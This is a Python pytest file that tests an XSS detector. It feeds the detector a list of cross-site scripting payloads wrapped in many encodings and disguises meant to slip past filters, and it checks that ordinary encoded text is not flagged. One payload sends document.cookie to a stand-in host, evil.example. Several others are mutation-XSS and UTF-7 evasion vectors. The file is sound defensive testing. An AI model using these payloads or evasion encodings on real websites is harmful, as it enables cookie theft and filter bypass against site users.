"""Hostile case B-117: script for a browser, under the codings that receivers undo."""

from __future__ import annotations

import base64
import html
from collections.abc import Callable
from urllib.parse import quote

import pytest

from vallum.inspection.detectors.xss import DETECTOR
from vallum.inspection.inspector import Inspector, patterns_of
from vallum.inspection.model import Content, Context
from vallum.inspection.scan import compile_patterns, load_scan

Coding = Callable[[str], str]

PAYLOADS = (
    "<svg/onload=alert(1)>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    '" onfocus=alert(1) autofocus x="',
    "'-alert(document.domain)-'",
    "</script><script>alert(1)</script>",
    "javascript:alert(document.cookie)",
    '<iframe src="javascript:alert(1)">',
    "{{constructor.constructor('alert(1)')()}}",
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)


def _references(text: str) -> str:
    return "".join(f"&#x{ord(letter):x};" for letter in text)


def _escapes(text: str) -> str:
    return "".join(letter if letter.isalnum() else f"\\u{ord(letter):04x}" for letter in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"\\x{ord(letter):02x}" for letter in text)


def _full_width(text: str) -> str:
    return "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text)


def _zero_width(text: str) -> str:
    return "\u200b".join(text)


def _nulls(text: str) -> str:
    return "\0".join(text)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


CODINGS: tuple[Coding, ...] = (
    str,
    quote,
    lambda text: quote(quote(text, safe=""), safe=""),
    html.escape,
    _references,
    _escapes,
    _hexadecimal,
    _full_width,
    _zero_width,
    _nulls,
    _base64,
    lambda text: quote(_references(text), safe=""),
    lambda text: _escapes(html.escape(text)),
    lambda text: _base64(quote(text, safe="")),
)


@pytest.fixture(scope="module")
def inspector() -> Inspector:
    scan = load_scan(compile_patterns(patterns_of((DETECTOR,))))
    return Inspector((DETECTOR,), scan, lambda: 0.0)


def _strongest(inspector: Inspector, text: str, content: Content = "text") -> int:
    found = inspector.inspect([text], lambda _: Context("query", "q", content))
    return max((each.judgement.score for each in found), default=0)


@pytest.mark.parametrize("coding", CODINGS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_b117_xss_enc(inspector: Inspector, payload: str, coding: Coding) -> None:
    assert _strongest(inspector, coding(payload)) >= 5


@pytest.mark.parametrize(
    "text",
    [
        "&#x6a;avascript:alert(1)",
        "jaVasCript:alert(1)",
        "java&Tab;script&colon;alert(1)",
        "ja%0avascript:alert(1)",
        '<a href="jav&#x0A;ascript:alert(1)">x</a>',
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "%2BADw-svg onload=alert(1)+AD4-",
        "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
        "¼script¾alert(1)¼/script¾",
        r"\u003csvg onload=alert(1)\u003e",
        "<sc\u00adript>alert(1)</sc\u00adript>",
        "%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be",
    ],
)
def test_b117_xss_enc_disguised(inspector: Inspector, text: str) -> None:
    assert _strongest(inspector, text) >= 5


@pytest.mark.parametrize("content", ["prose", "html", "markdown"])
@pytest.mark.parametrize("payload", [each for each in PAYLOADS if each.startswith("<")])
def test_b117_xss_enc_whatever_the_content(
    inspector: Inspector, payload: str, content: Content
) -> None:
    assert _strongest(inspector, payload, content) >= 5


@pytest.mark.parametrize(
    "text",
    [
        "R&amp;D at 5 &lt; 7",
        "100%25 of <b>you</b>",
        "Dear <name@example.com>, a < b and \\u00e9t\\u00e9",
        "SGVsbG8sIGhvdyBhcmUgeW91IHRvZGF5Pw==",
        "List&lt;String&gt; names",
    ],
)
def test_b117_coded_text_of_a_person_passes(inspector: Inspector, text: str) -> None:
    assert _strongest(inspector, text) < 5


def test_b117_escaped_examples_pass_in_rich_text(inspector: Inspector) -> None:
    text = "<p>Never print <code>&lt;script&gt;alert(1)&lt;/script&gt;</code>.</p>"

    assert _strongest(inspector, text, "html") < 5
